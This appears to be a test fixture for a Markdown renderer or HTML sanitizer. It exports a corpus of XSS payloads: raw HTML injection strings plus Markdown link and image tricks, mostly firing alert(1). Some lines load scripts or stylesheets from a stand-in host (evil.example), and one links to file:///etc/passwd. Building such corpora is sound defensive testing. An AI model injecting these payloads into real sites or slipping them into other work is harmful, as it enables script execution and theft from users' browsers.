/**
 * Ways to make a page run somebody else's script, as security lists, advisories of Markdown
 * renderers and mutation studies collect them. `alert(1)` stands for the script.
 */
const rawHtml = String.raw`
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=https://evil.example/x.js></script>
<script/src="data:text/javascript,alert(1)"></script>
<script>alert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x20type="text/javascript">alert(1)</script>
<script type="module">import("https://evil.example")</script>
<script xlink:href="data:,alert(1)"></script>
</script><script>alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<img src=x onerror=alert(1)>
<img src=x OnErRoR=alert(1)>
<img src="x" onerror="alert(1)" alt="x">
<img/src=x/onerror=alert(1)>
<img src=x onerror
=alert(1)>
<img src='x'onerror='alert(1)'>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src="javascript:alert(1)">
<img src=" javascript:alert(1)">
<img src="data:text/html,<script>alert(1)</script>">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img srcset="javascript:alert(1) 1x">
<img srcset=x onerror=alert(1)>
<img lowsrc="javascript:alert(1)">
<img dynsrc="javascript:alert(1)">
<img src=x style="background:url(javascript:alert(1))">
<img """><script>alert(1)</script>">
<img src=# onmouseover="alert(1)">
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName="onmouseover" to="alert(1)">
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">click</math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://here/1">x</a>
<a href="filesystem:https://here/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="jar:javascript:alert(1)">x</a>
<a href=javascript:alert(1)//https://ok>x</a>
<a href="//evil.example" onclick=alert(1)>x</a>
<a href="#" onfocus=alert(1) autofocus>x</a>
<a href="/" ping="https://evil.example">x</a>
<a href="/" target=_blank rel=opener>x</a>
<a href="/" download="x.html">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="https://ok" style="position:fixed;inset:0">x</a>
<a name="getElementById" id="getElementById">x</a>
<base href="javascript:alert(1)//">
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=prefetch href="https://evil.example">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="Set-Cookie" content="a=b">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<style>@import "https://evil.example/x.css";</style>
<style>body{background:url(javascript:alert(1))}</style>
<style></style><script>alert(1)</script>
<p style="behavior:url(x.htc)">x</p>
<p style="width:expression(alert(1))">x</p>
<div style="background-image:url('javascript:alert(1)')">x</div>
<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=https://evil.example onload=alert(1)>
<iframe/onload=alert(1)>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object classid="clsid:x"><param name=url value="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<applet code="x"></applet>
<portal src="https://evil.example"></portal>
<fencedframe></fencedframe>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<button onclick=alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<input type=text value="your password">
<isindex action="javascript:alert(1)" type=image>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<textarea></textarea><img src=x onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster="javascript:alert(1)"></video>
<audio src=x onerror=alert(1)></audio>
<audio autoplay onplay=alert(1)><source src=x></audio>
<track src=x onload=alert(1)>
<details open ontoggle=alert(1)>x</details>
<details><summary onclick=alert(1)>x</summary></details>
<dialog open onclose=alert(1)>x</dialog>
<marquee onstart=alert(1)>x</marquee>
<marquee behavior="alternate" onbounce=alert(1)>x</marquee>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onmouseover=alert(1)>
<div onmouseover="alert(1)">x</div>
<div onpointerenter=alert(1)>x</div>
<div onanimationstart=alert(1) class=spin>x</div>
<div contenteditable onblur=alert(1)>x</div>
<div popover id=p onbeforetoggle=alert(1)>x</div>
<button popovertarget=p>x</button>
<p oncopy=alert(1)>x</p>
<p data-x="1" onclick="alert(1)">x</p>
<p class="copy-code" id="_main">x</p>
<h1 id="location" name="cookie">x</h1>
<xss onclick="alert(1)" tabindex=1>x</xss>
<x-element><script>alert(1)</script></x-element>
<slot onslotchange=alert(1)></slot>
<table background="javascript:alert(1)"><tr><td>x</table>
<td background="javascript:alert(1)">x
<table><caption><script>alert(1)</script></caption></table>
<colgroup onclick=alert(1)><col></colgroup>
<bgsound src="javascript:alert(1)">
<layer src="javascript:alert(1)"></layer>
<xml id=x><x><script>alert(1)</script></x></xml>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<title><img src=x onerror=alert(1)></title>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img src=x onerror=alert(1)></noframes>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo "<script>alert(1)</script>"; ?>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>
<<script>alert(1)//<</script>
<p title="--><img src=x onerror=alert(1)>">x</p>
<p title='"><script>alert(1)</script>'>x</p>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="javascript:alert(1)">x</q>
<del cite="javascript:alert(1)">x</del>
<time datetime="x" onclick=alert(1)>x</time>
<li data-task="done" onclick=alert(1)>x</li>
<section class="footnotes" onclick=alert(1)>x</section>
<sup class="footnote-ref copy-code" style="x">1</sup>
<a class="footnote-back" href="javascript:alert(1)">x</a>
<code class="language-js onclick" onclick=alert(1)>x</code>
<a href="https://ok&quot; onmouseover=&quot;alert(1)">x</a>
<b><p><b></p><img src=x onerror=alert(1)></b>
<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`
  .trim()
  .split("\n<")
  .map((payload, index) => (index === 0 ? payload : `<${payload}`));

const markdown = [
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](java\u0000script:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](\\javascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](\u200Bjavascript:alert(1))",
  "[x](vbscript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  '[x](https://ok "\\" onmouseover=\\"alert(1)")',
  '[x](https://ok "\'><script>alert(1)</script>")',
  '[x](https://ok" onclick="alert(1))',
  "[<img src=x onerror=alert(1)>](https://ok)",
  "![x](javascript:alert(1))",
  "![x](data:text/html,alert(1))",
  '![x"onerror="alert(1)](https://ok/x.png)',
  '![x](x.png"onerror="alert(1))',
  '![x](x.png "\\"onerror=\\"alert(1)")',
  '!["><script>alert(1)</script>](x.png)',
  "![<script>alert(1)</script>](/media/0198f3a2-1111-7222-8333-444455556666)",
  '![x](/media/0198f3a2-1111-7222-8333-444455556666 "<script>alert(1)</script>")',
  '![x](/media/00000000-0000-7000-8000-000000000000"onerror=alert(1))',
  "<javascript:alert(1)>",
  "<JavaScript:alert(1)>",
  "<data:text/html,<script>alert(1)</script>>",
  '<https://ok/" onmouseover=alert(1)>',
  'https://ok/"onmouseover="alert(1)',
  "www.ok.example/<script>alert(1)</script>",
  "javascript://www.ok.example/%0Aalert(1)",
  '```"><script>alert(1)</script>\nx\n```',
  '```js" onclick="alert(1)\nx\n```',
  "```html\n<script>alert(1)</script>\n```",
  "```svg\n<svg onload=alert(1)>\n```",
  "`<script>alert(1)</script>`",
  "    <script>alert(1)</script>",
  "# <script>alert(1)</script>",
  '# x" onclick="alert(1)',
  "# [x](javascript:alert(1))",
  "[^x]\n\n[^x]: <img src=x onerror=alert(1)>",
  '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
  "[^__proto__]\n\n[^__proto__]: x",
  "[^constructor] [constructor]",
  "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|:-:|\n| <b onclick=alert(1)>x</b> | y |",
  "- [x] <img src=x onerror=alert(1)>",
  "~~<img src=x onerror=alert(1)>~~",
  "**<a href=javascript:alert(1)>x</a>**",
  "<div>\n\n**x** <img src=x onerror=alert(1)>\n\n</div>",
  '<div title="\n\n<img src=x onerror=alert(1)>\n\n">',
  '<a href="\n\njavascript:alert(1)\n\n">x</a>',
  "<!--\n\n--><img src=x onerror=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\<script>alert(1)\\</script>",
  '<img src="x`onerror=alert(1)">',
];

export const xssCorpus: readonly string[] = [...rawHtml, ...markdown];
